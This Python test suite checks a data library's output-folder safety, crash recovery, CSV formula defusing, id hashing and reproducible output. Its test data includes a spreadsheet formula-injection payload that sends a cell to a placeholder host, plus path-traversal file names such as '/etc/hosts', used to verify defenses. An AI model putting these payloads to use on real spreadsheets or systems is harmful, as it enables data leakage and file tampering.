"""Output folders: only what the library wrote is ever replaced or removed, whatever happens while
it writes.
"""

import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from segtutorial import cli, pipeline
from segtutorial.core import folders
from segtutorial.core.exports import as_plain_text, as_written, hide_ids, id_key, write_csv
from segtutorial.core.folders import MARK, check_out, foreign, new_file, new_folder, read_mark
from segtutorial.shop import ShopError, load_shop, simulate_shop, write_shop

posix = pytest.mark.skipif(
    os.name != "posix", reason="skipped: this system has no such modes, links or signals"
)


def contents(folder):
    """Everything in a folder: names, links, bytes."""
    return {
        path.relative_to(folder).as_posix(): os.readlink(path)
        if path.is_symlink()
        else path.is_file() and path.read_bytes()
        for path in folder.rglob("*")
    }


def write(out, overwrite=True, kind="report", **files):
    """A small folder of ours: keyword a_txt is the file a.txt."""
    with new_folder(out, kind, overwrite) as folder:
        for name, text in files.items():
            (folder.path / name.replace("_", ".")).write_text(text)
    return Path(out)


@pytest.fixture(scope="module")
def tiny():
    return simulate_shop(120, 20, 60, 3)


@pytest.fixture(scope="module")
def tiny_folder(tiny, tmp_path_factory):
    return write_shop(tiny, tmp_path_factory.mktemp("tiny") / "shop")


MINE = {
    "a website with its history": ("run", ["index.html", ".git/HEAD", ".git/objects/ab"]),
    "my data with its settings": (
        "simulate",
        ["columns.toml", "behaviors.csv", "old/behaviors.csv"],
    ),
    "a mark of somebody else": ("run", ["index.html", "sub/" + MARK]),
}


@pytest.mark.parametrize("case", MINE)
def test_a_folder_of_the_users_is_never_replaced(case, tiny_folder, main, tmp_path):
    """Not with --overwrite either: a page, settings or a mark further down make no folder ours."""
    command, names = MINE[case]
    out = tmp_path / "mine"
    for name in names:
        (out / name).parent.mkdir(parents=True, exist_ok=True)
        (out / name).write_text(f"my {name}")
    before = contents(tmp_path)
    source = (
        ["--data", tiny_folder] if command == "run" else ["--users", 5, "--items", 5, "--days", 5]
    )
    code, _, stderr = main(command, *source, "--out", out, "--overwrite")
    assert code == 1 and "not made by segtutorial" in stderr and contents(tmp_path) == before


@pytest.mark.parametrize("out", ["shop", "shop/report", "shop/a/b", "."])
def test_data_and_output_stay_apart(out, tiny, main, tmp_path):
    """The output is not the data's folder, not in it and not around it; also through a link."""
    write_shop(tiny, tmp_path / "shop")
    before = contents(tmp_path)
    for data in (tmp_path / "shop", tmp_path / "shop" / ".." / "shop"):
        code, _, stderr = main("run", "--data", data, "--out", tmp_path / out, "--overwrite")
        assert code == 1 and "choose a folder outside it" in stderr and contents(tmp_path) == before


@posix
def test_data_and_output_stay_apart_through_links(tiny, main, tmp_path):
    write_shop(tiny, tmp_path / "shop")
    os.symlink(tmp_path / "shop", tmp_path / "link")
    before = contents(tmp_path)
    for data, out in (("link", "shop"), ("shop", "link"), ("shop", "link/report")):
        code, _, stderr = main(
            "run", "--data", tmp_path / data, "--out", tmp_path / out, "--overwrite"
        )
        assert code == 1 and "choose a folder outside it" in stderr and contents(tmp_path) == before


def test_a_shop_is_no_report(tiny, main, tmp_path):
    """`run` does not replace what `simulate` wrote, nor the other way round."""
    other = write_shop(tiny, tmp_path / "other")
    data = write_shop(tiny, tmp_path / "data")
    report = write(tmp_path / "report", index_html="page")
    before = contents(tmp_path)
    for arguments in (
        ["run", "--data", data, "--out", other],
        ["simulate", "--users", 5, "--items", 5, "--days", 5, "--out", report],
    ):
        code, _, stderr = main(*arguments, "--overwrite")
        assert code == 1 and "this folder holds" in stderr and contents(tmp_path) == before


def test_only_listed_files_are_replaced_and_the_others_are_named(tiny_folder, main, tmp_path):
    """Files, folders and hidden files of the user's stay; so does a table that they wrote into,
    beside its new version.
    """
    out = tmp_path / "report"
    assert main("run", "--data", tiny_folder, "--out", out)[0] == 0
    (out / "notes.txt").write_text("mine")
    (out / ".git").mkdir()
    (out / ".git" / "HEAD").write_text("ref")
    page = (out / "index.html").read_bytes()
    with (out / "classes.csv").open("a") as file:
        file.write("my remark")
    code, _, stderr = main("run", "--data", tiny_folder, "--out", out, "--overwrite")
    assert code == 0 and (out / "index.html").read_bytes() == page
    assert (out / "notes.txt").read_text() == "mine" and (
        out / ".git" / "HEAD"
    ).read_text() == "ref"
    assert (out / "classes.kept-1.csv").read_text(encoding="utf-8").endswith("my remark")
    assert "my remark" not in (out / "classes.csv").read_text(encoding="utf-8")
    assert foreign(out) == [".git/", "classes.kept-1.csv", "notes.txt"]
    assert "kept in" in stderr and all(name in stderr for name in foreign(out))


def test_a_users_file_with_a_name_that_is_new_to_us_stays(tmp_path):
    """A later version writes a table whose name the user had taken."""
    out = write(tmp_path / "report", index_html="1")
    (out / "trend.csv").write_text("mine")
    write(out, index_html="2", trend_csv="ours")
    assert (out / "trend.csv").read_text() == "ours" and (
        out / "trend.kept-1.csv"
    ).read_text() == "mine"
    write(out, index_html="3")
    assert contents(out).keys() == {MARK, "index.html", "trend.kept-1.csv"}


@posix
def test_a_link_stays_a_link(tmp_path):
    """And its target gets the report; a link inside the folder is the user's, and what it names is
    untouched.
    """
    target = write(tmp_path / "target", index_html="1")
    os.symlink("target", tmp_path / "latest")
    (tmp_path / "thesis").mkdir()
    (tmp_path / "thesis" / "a.txt").write_text("mine")
    os.symlink("../thesis", target / "thesis")
    write(tmp_path / "latest", index_html="2")
    assert (
        os.readlink(tmp_path / "latest") == "target" and (target / "index.html").read_text() == "2"
    )
    assert foreign(target) == ["thesis"] and (target / "thesis" / "a.txt").read_text() == "mine"
    os.symlink("not there yet", tmp_path / "next")
    write(tmp_path / "next", index_html="3")
    assert (tmp_path / "next").is_symlink() and (
        tmp_path / "not there yet" / "index.html"
    ).read_text() == "3"


@pytest.mark.parametrize(
    "files",
    [
        {"../thesis.txt": "0"},
        {"/etc/hosts": "0"},
        {"a/../../b": "0"},
        {"..\\thesis.txt": "0"},
        ["a"],
        {"a": 1},
        None,
    ],
)
def test_a_mark_that_points_outside_is_none(files, tmp_path):
    """A folder from a stranger cannot make us remove what is not in it."""
    out = tmp_path / "report"
    out.mkdir()
    (tmp_path / "thesis.txt").write_text("mine")
    (out / MARK).write_text(json.dumps({"kind": "report", "files": files}))
    before = contents(tmp_path)
    with pytest.raises(ShopError, match="not made by segtutorial"):
        write(out, index_html="1")
    assert contents(tmp_path) == before


# every call of the system that `new_folder` makes, as a place at which the process may be stopped
# or the disk be full
CALLS = [
    (os, "rename"),
    (folders, "_exchange"),
    (Path, "mkdir"),
    (Path, "unlink"),
    (Path, "rmdir"),
    (Path, "write_text"),
    (Path, "chmod"),
    (folders, "_sha256"),
    (folders, "_remove"),
    (folders, "_tidy"),
    (folders, "_take_home"),
]


def one_fault(out, call, nth, fault, monkeypatch, no_exchange=False):
    """Writes the second report into `out` with a fault at the nth call of something; whether the
    fault came.
    """
    count, came = [0], []
    place, name = call
    true = getattr(place, name)

    def faulty(*given, **named):
        count[0] += 1
        if count[0] == nth:
            came.append(True)
            raise fault
        return true(*given, **named)

    with monkeypatch.context() as patch:
        if no_exchange and call != (folders, "_exchange"):
            patch.setattr(folders, "_exchange", lambda a, b: False)
        patch.setattr(place, name, faulty)
        try:
            write(out, index_html="new", new_csv="new")
        except (OSError, ShopError, KeyboardInterrupt):
            pass
    return bool(came)


@pytest.mark.parametrize("no_exchange", [False, True])
@pytest.mark.parametrize("call", CALLS, ids=lambda call: call[1])
def test_a_fault_at_any_call_leaves_the_old_or_the_new_report(
    call, no_exchange, tmp_path, monkeypatch
):
    """With the user's notes in it; and after the next run nothing lies about, where a fault came
    twice neither.
    """
    n = 0
    for fault in (OSError(28, "No space left on device"), KeyboardInterrupt()):
        for nth in range(1, 40):
            home = tmp_path / f"{n}"
            n += 1
            out = write(home / "report", index_html="old", old_csv="old")
            (out / "notes.txt").write_text("mine")
            if not one_fault(out, call, nth, fault, monkeypatch, no_exchange):
                break
            pages = {"old": {"index.html", "old.csv"}, "new": {"index.html", "new.csv"}}
            found = contents(out)
            ours = pages[found["index.html"].decode()]
            lying = [path for path in home.iterdir() if path != out]
            notes = [path for path in home.rglob("notes.txt") if path.read_text() == "mine"]
            assert ours <= found.keys() and notes, (nth, fault)
            assert found.keys() - {MARK, "notes.txt"} == ours and len(notes) == 1, (nth, fault)
            write(out, index_html="next")
            assert contents(out).keys() == {MARK, "index.html", "notes.txt"}, (nth, fault, lying)
            assert list(home.iterdir()) == [out], (nth, fault)
        assert (
            nth > 1 or call[1] in ("unlink", "rmdir", "_take_home", "_exchange") or no_exchange
        ), "the call was never made"


def test_what_a_dead_process_left_is_put_right(tmp_path):
    """Also under another name: a report that lost its place is back, halves are gone, the user's
    files are where they were.
    """
    write(tmp_path / "may", index_html="may")
    (tmp_path / "may" / "notes.txt").write_text("mine")
    os.rename(tmp_path / "may", tmp_path / ".may.old")  # killed between two renames
    write(tmp_path / "june", index_html="june")
    write(tmp_path / ".june.old", index_html="older")  # killed before the old one was removed
    (tmp_path / ".june.old" / "notes.txt").write_text("mine too")
    (tmp_path / ".april.part").mkdir()
    (tmp_path / ".april.part" / MARK).write_text("{}")  # killed while writing
    (tmp_path / ".april.part" / "customers.csv").write_text("101")
    (tmp_path / ".mine.part").mkdir()
    (tmp_path / ".mine.part" / "a.txt").write_text("no mark: not ours")
    write(tmp_path / "july", index_html="july")
    assert contents(tmp_path).keys() - {".mine.part", ".mine.part/a.txt"} == {
        "may",
        f"may/{MARK}",
        "may/index.html",
        "may/notes.txt",
        "june",
        f"june/{MARK}",
        "june/index.html",
        "june/notes.txt",
        "july",
        f"july/{MARK}",
        "july/index.html",
    }
    assert (tmp_path / "june" / "index.html").read_text() == "june" and (
        tmp_path / ".mine.part" / "a.txt"
    ).exists()


@posix
def test_two_runs_at_once(tiny_folder, process, tmp_path):
    """Into one new folder: one wins, the other is told, and the report is whole."""
    out = tmp_path / "report"
    started = [process("run", "--data", tiny_folder, "--out", out) for _ in range(2)]
    ended = [(*one.communicate(timeout=300), one.returncode) for one in started]
    assert sorted(code for *_, code in ended) == [0, 1], ended
    told = next(stderr for _, stderr, code in ended if code)
    assert (
        "another segtutorial is writing" in told or "this folder exists already" in told
    ) and "Traceback" not in told
    assert (
        foreign(out) == [] and (out / "index.html").exists() and list(tmp_path.iterdir()) == [out]
    )


@posix
def test_reports_are_for_their_owner(tiny_folder, tiny, main, tmp_path):
    """600 and 700, whatever the umask; --shared and a simulated shop follow the umask."""

    def modes(folder):
        return {
            stat.S_IMODE(path.stat().st_mode)
            for path in [folder, *folder.rglob("*")]
            if path.is_dir()
        }, {stat.S_IMODE(path.stat().st_mode) for path in folder.rglob("*") if path.is_file()}

    before = os.umask(0o022)
    try:
        assert main("run", "--data", tiny_folder, "--out", tmp_path / "private")[0] == 0
        assert main("run", "--data", tiny_folder, "--out", tmp_path / "shared", "--shared")[0] == 0
        assert (
            main("simulate", "--users", 5, "--items", 5, "--days", 5, "--out", tmp_path / "made")[0]
            == 0
        )
        write_shop(tiny, tmp_path / "written")
    finally:
        os.umask(before)
    assert modes(tmp_path / "private") == ({0o700}, {0o600}) == modes(tmp_path / "written")
    assert modes(tmp_path / "shared") == ({0o755}, {0o644}) == modes(tmp_path / "made")


def test_a_sentiment_model_replaces_only_a_sentiment_model(tiny_folder, main, tmp_path):
    """Whatever else is there under that name is the user's."""
    for name, data in (("reviews.csv", b"user_id,text\n"), ("odd.npz", b"PK\x03\x04")):
        (tmp_path / name).write_bytes(data)
        for also in ([], ["--overwrite"]):
            code, _, stderr = main(
                "train-sentiment", "--data", tiny_folder, "--out", tmp_path / name, *also
            )
            assert (
                code == 1
                and "no sentiment model is not replaced" in stderr
                and (tmp_path / name).read_bytes() == data
            )


def test_one_file_is_whole_or_not_there(tmp_path):
    (tmp_path / ".a.npz.part").write_bytes(b"half, by a dead process")
    with new_file(tmp_path / "a.npz") as part:
        part.write_bytes(b"whole")
    with pytest.raises(KeyboardInterrupt):
        with new_file(tmp_path / "a.npz") as part:
            part.write_bytes(b"ha")
            raise KeyboardInterrupt
    assert contents(tmp_path) == {"a.npz": b"whole"}


# text that stays text

SIGNS = "=+-@\t\r\n＝＋－＠"


@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(),
            st.builds(
                lambda head, text: head + text,
                st.text(alphabet="'" + SIGNS, max_size=4),
                st.text(max_size=3),
            ),
        )
    )
)
def test_no_text_runs_in_a_spreadsheet_and_all_come_back(texts):
    cells = pd.Series(texts, dtype=object)
    safe = as_plain_text(cells)
    assert not any(isinstance(text, str) and text[:1] and text[0] in SIGNS for text in safe)
    assert as_written(safe).tolist() == cells.tolist()


FORMULAS = [
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "'=1",
    "''-x",
    "＝1+1",
    "plain",
    "it's",
]


def odd_shop():
    """A shop whose ids, titles and reviews begin with every sign."""
    n = len(FORMULAS)
    behaviors = pd.DataFrame(
        {
            "user_id": FORMULAS * 3,
            "item_id": (FORMULAS[1:] + FORMULAS[:1]) * 3,
            "action": ["view"] * n + ["buy"] * n * 2,
            "ts": [1_700_000_000 + 90_000 * k for k in range(3 * n)],
            "quantity": pd.array([None] * n + [1] * n * 2, "Int64"),
            "price": pd.array([None] * n + [500 + k for k in range(n)] * 2, "Int64"),
            "order_id": [None] * n + [f"-{k}" for k in range(n * 2)],
        }
    )
    products = pd.DataFrame(
        {"item_id": FORMULAS, "title": FORMULAS, "category": FORMULAS[0], "brand": "b", "price": -5}
    )
    reviews = pd.DataFrame(
        {
            "user_id": FORMULAS,
            "item_id": FORMULAS,
            "ts": 1_702_900_000,
            "rating": 5.0,
            "text": FORMULAS,
        }
    )
    return simulate_shop(5, 5, 5, 1).__class__(behaviors, products, reviews, name="=cmd")


def test_no_formula_in_any_csv_and_a_written_shop_comes_back(tmp_path):
    """Numbers below 0 stay numbers; the columns that got an apostrophe are named in the mark, on
    the page, and in columns.toml.
    """
    shop = odd_shop()
    written = write_shop(shop, tmp_path / "shop")
    report = pipeline.run(shop, tmp_path / "report", progress=False).parent
    for folder in (written, report):
        texts = 0
        for path in [*folder.rglob("*.csv"), *folder.rglob("*.csv.gz")]:
            table = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
            for name in table:
                starts = table[name][table[name].str[:1].isin(list(SIGNS))]
                assert pd.to_numeric(starts, errors="coerce").notna().all(), (path.name, name)
                texts += table[name].str.startswith("'").sum()
        assert texts > 10 and read_mark(folder)["prefixed"]
    page = (report / "index.html").read_text(encoding="utf-8")
    assert "has an apostrophe in front of it" in page and "user_features.csv (user_id)" in page
    assert MARK in (written / "columns.toml").read_text(encoding="utf-8")
    back = load_shop(written)
    for name, table in shop.tables().items():
        read = back.tables()[name]
        for column in table:
            same = read[column].astype(object).where(read[column].notna(), None).tolist()
            want = table[column].astype(object).where(table[column].notna(), None).tolist()
            stripped = [
                text.strip() if isinstance(text, str) and column.endswith("_id") else text
                for text in want
            ]
            assert same == stripped, (name, column)


def test_a_users_own_apostrophes_stay(tmp_path):
    """Only in a file that the library wrote, and only in the columns that its mark names."""
    (tmp_path / "behaviors.csv").write_text(
        "user_id,item_id,action,ts\n'=1,a,view,1700000000\n'-2,b,view,1700000001\n"
    )
    assert load_shop(tmp_path).behaviors["user_id"].tolist() == ["'=1", "'-2"]


# ids that lead to nobody


def test_hidden_ids(tmp_path, monkeypatch):
    """The same key hides an id, number or text, the same way; another key another; the key is kept,
    for its owner only.
    """
    monkeypatch.setenv("SEGTUTORIAL_ID_KEY", str(tmp_path / "keys" / "id.key"))
    key = id_key()
    assert id_key() == key and len(key) == 32
    assert (
        os.name != "posix" or stat.S_IMODE((tmp_path / "keys" / "id.key").stat().st_mode) == 0o600
    )
    numbers, texts = hide_ids(pd.Series([7, 8, 7]), key), hide_ids(pd.Series(["7", None, "8"]), key)
    assert (
        numbers[0] == numbers[2] == texts[0]
        and numbers[1] == texts[2]
        and texts.isna().tolist() == [False, True, False]
    )
    assert not set(hide_ids(pd.Series([7, 8]), bytes(32))) & set(numbers)
    assert hide_ids(pd.Series(range(20_000)), key).nunique() == 20_000


def test_a_report_without_ids_holds_none(tmp_path, main, monkeypatch):
    """Neither in a table nor on the page nor among rejected rows; its figures are those of the
    report with ids.
    """
    monkeypatch.setenv("SEGTUTORIAL_ID_KEY", str(tmp_path / "id.key"))
    shop = simulate_shop(120, 30, 60, 5, dirt=0.05)
    for table in shop.tables().values():
        for name in {"user_id", "order_id"} & set(table):
            table[name] = (
                table[name].map(lambda one: f"SECRET{one}", na_action="ignore").astype("str")
            )
    shop.truth = {}
    data = write_shop(shop, tmp_path / "shop")
    log = data / "behaviors.csv.gz"
    table = pd.read_csv(log, dtype=str)
    table.loc[3, "ts"] = "SECRET-TIME"  # a row that cannot be read is kept with its cells
    table.to_csv(log, index=False)
    assert main("run", "--data", data, "--out", tmp_path / "with")[0] == 0
    assert main("run", "--data", data, "--out", tmp_path / "without", "--no-ids")[0] == 0
    import base64
    import re

    for path in (tmp_path / "without").iterdir():
        text = path.read_text(encoding="utf-8")
        pictures = [
            base64.b64decode(data).decode() for data in re.findall(r"base64,([^\"]+)", text)
        ]
        assert not [one for one in [text, *pictures] if "SECRET" in one], path.name
    assert "SECRET" in (tmp_path / "with" / "rejected.csv").read_text(encoding="utf-8")
    assert "keyed hashes" in (tmp_path / "without" / "index.html").read_text(encoding="utf-8")
    read = lambda out, name: pd.read_csv(tmp_path / out / f"{name}.csv", encoding="utf-8-sig")
    with_ids, without = (
        read(out, "customers").drop(columns="user_id") for out in ("with", "without")
    )
    pd.testing.assert_frame_equal(with_ids, without)
    hidden = set(read("without", "customers")["user_id"])
    assert hidden == set(
        hide_ids(read("with", "customers")["user_id"], id_key())
    ) and hidden <= set(read("without", "user_features")["user_id"])
    assert len(read("without", "rejected")) == len(read("with", "rejected")) > 0


# terminals, disks, rights, signals


@posix
@pytest.mark.parametrize("encoding", ["gbk", "cp1252", "ascii"])
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_no_terminal_ends_a_run(encoding, lang, tiny, process, tmp_path):
    """Whatever its letters; a folder's name in Chinese is written as an escape where there are
    none.
    """
    write_shop(tiny, tmp_path / "店铺é")
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join(filter(None, [os.getcwd(), os.environ.get("PYTHONPATH")])),
        "PYTHONIOENCODING": encoding,
    }
    for arguments in (
        ["check", "--data", tmp_path / "店铺é"],
        ["run", "--data", tmp_path / "店铺é", "--out", tmp_path / "报告", "--lang", lang],
    ):
        with process(*arguments, env=env, text=False, encoding=None) as started:
            stdout, stderr = started.communicate(timeout=300)
        assert started.returncode == 0 and stdout and b"Traceback" not in stderr, stderr
    assert (tmp_path / "报告" / "index.html").exists()


@posix
def test_a_full_output_device_is_one_message(tiny_folder, process, tmp_path):
    """Words that cannot be printed are no reason for a traceback."""
    if not Path("/dev/full").exists():
        pytest.skip("skipped: this system has no /dev/full")
    with (
        open("/dev/full", "w") as full,
        process("check", "--data", tiny_folder, stdout=full) as started,
    ):
        _, stderr = started.communicate(timeout=300)
    assert started.returncode == 1 and "No space left" in stderr and "Traceback" not in stderr


@posix
def test_a_full_disk_leaves_the_old_report(tiny_folder, main, tmp_path, monkeypatch):
    """At the first, a middle and the last table; one message that names the folder."""
    out = tmp_path / "report"
    assert main("run", "--data", tiny_folder, "--out", out)[0] == 0
    before = contents(tmp_path)
    true = pd.DataFrame.to_csv
    for nth in (1, 7, 12):
        count = []

        def full(self, *given, **named):
            count.append(1)
            if len(count) == nth:
                raise OSError(28, "No space left on device", str(given[0]))
            return true(self, *given, **named)

        with monkeypatch.context() as patch:
            patch.setattr(pd.DataFrame, "to_csv", full)
            code, _, stderr = main("run", "--data", tiny_folder, "--out", out, "--overwrite")
        assert (
            code == 1
            and "No space left on device" in stderr
            and str(out) in stderr
            and "Traceback" not in stderr
        )
        assert contents(tmp_path) == before


@pytest.mark.parametrize(
    "error",
    [
        MemoryError(),
        RuntimeError("[enforce fail at alloc_cpu.cpp] DefaultCPUAllocator: can't allocate memory"),
        RuntimeError("std::bad_alloc"),
    ],
)
def test_no_memory_is_one_message(error, tiny_folder, main, tmp_path, monkeypatch):
    out = write(tmp_path / "report", index_html="old")
    before = contents(tmp_path)

    def greedy(*given, **named):
        raise error

    monkeypatch.setattr(pipeline.cleaning, "clean", greedy)
    greedy.__kwdefaults__ = {}
    code, _, stderr = main("run", "--data", tiny_folder, "--out", out, "--overwrite")
    assert (
        code == 1
        and "memory of this machine does not suffice" in stderr
        and "Traceback" not in stderr
        and contents(tmp_path) == before
    )


def test_a_fault_of_the_library_is_one_line_and_the_traceback_on_demand(
    tiny_folder, main, tmp_path, monkeypatch
):
    def broken(*given, **named):
        raise KeyError("net_quantity")

    monkeypatch.setattr(cli, "load_shop", broken)
    code, _, stderr = main("check", "--data", tiny_folder)
    assert (
        code == 1
        and "an error of segtutorial itself" in stderr
        and "KeyError" in stderr
        and "Traceback" not in stderr
    )
    monkeypatch.setenv("SEGTUTORIAL_DEBUG", "1")
    assert "Traceback" in main("check", "--data", tiny_folder)[2]


@posix
@pytest.mark.skipif(
    os.name == "posix" and os.geteuid() == 0, reason="skipped: root may write everywhere"
)
def test_no_right_to_write_or_read(tiny_folder, main, tmp_path):
    closed = tmp_path / "closed"
    closed.mkdir(mode=0o500)
    code, _, stderr = main("run", "--data", tiny_folder, "--out", closed / "report")
    assert (
        code == 1 and "cannot be written (Permission denied" in stderr and "Traceback" not in stderr
    )


@posix
def test_kill_at_any_moment_and_the_next_run_puts_it_right(tiny_folder, process, main, tmp_path):
    """kill -9: the old report stays whole; the next run replaces it and leaves nothing else. More
    of this: make stress.
    """
    out = tmp_path / "report"
    assert main("run", "--data", tiny_folder, "--out", out)[0] == 0
    before = contents(out)
    with process(
        "run", "--data", tiny_folder, "--out", out, "--overwrite", "--lang", "zh"
    ) as started:
        until = time.monotonic() + 120
        while not (tmp_path / ".report.part").exists() and time.monotonic() < until:
            time.sleep(0.005)
        started.send_signal(signal.SIGKILL)
        started.communicate()
    assert contents(out) == before and (tmp_path / ".report.part").exists()
    assert main("run", "--data", tiny_folder, "--out", out, "--overwrite")[0] == 0
    assert contents(out) == before and list(tmp_path.iterdir()) == [out]


# the same bytes everywhere


MACHINES = [
    {"PYTHONHASHSEED": "1", "OMP_NUM_THREADS": "1", "LC_ALL": "C", "TZ": "UTC"},
    {
        "PYTHONHASHSEED": "2",
        "OMP_NUM_THREADS": "4",
        "LC_ALL": "C.UTF-8",
        "TZ": "America/New_York",
        "MKL_NUM_THREADS": "4",
    },
    {
        "PYTHONHASHSEED": "3",
        "OMP_NUM_THREADS": "3",
        "PYTHONUTF8": "0",
        "TZ": "Asia/Kolkata",
        "LANG": "zh_CN.GBK",
    },
]


def test_the_same_files_give_the_same_bytes_on_every_machine(tmp_path):
    """Independent of hash seed, threads, locale, time zone and folder."""
    shop = simulate_shop(250, 60, 120, 11, dirt=0.02)
    source = str(Path(__file__).resolve().parent.parent)
    found = []
    for k, machine in enumerate(MACHINES):
        home = tmp_path / f"home {k}"
        data = write_shop(shop, home / "shop")
        env = {
            name: text
            for name, text in os.environ.items()
            if not name.startswith(("LC_", "LANG", "OMP_", "MKL_"))
        }
        done = subprocess.run(
            [sys.executable, "-m", "segtutorial", "run", "--data", str(data), "--out", "report"],
            cwd=home,
            env={**env, "PYTHONPATH": source, **machine},
            capture_output=True,
        )
        assert done.returncode == 0, done.stderr
        found.append(contents(home / "report"))
    for other in found[1:]:
        assert [
            name for name in found[0].keys() | other.keys() if found[0].get(name) != other.get(name)
        ] == []


def test_check_out_says_nothing_where_all_is_well(tmp_path):
    check_out(tmp_path / "new", "report")
    check_out(tmp_path, "report")
    with new_folder(tmp_path / "r", "report") as folder:
        write_csv(folder, "a/b.csv", pd.DataFrame({"x": [1]}))
    check_out(tmp_path / "r", "report", overwrite=True, source=tmp_path / "s")
    assert read_mark(tmp_path / "r")["files"].keys() == {"a/b.csv"}
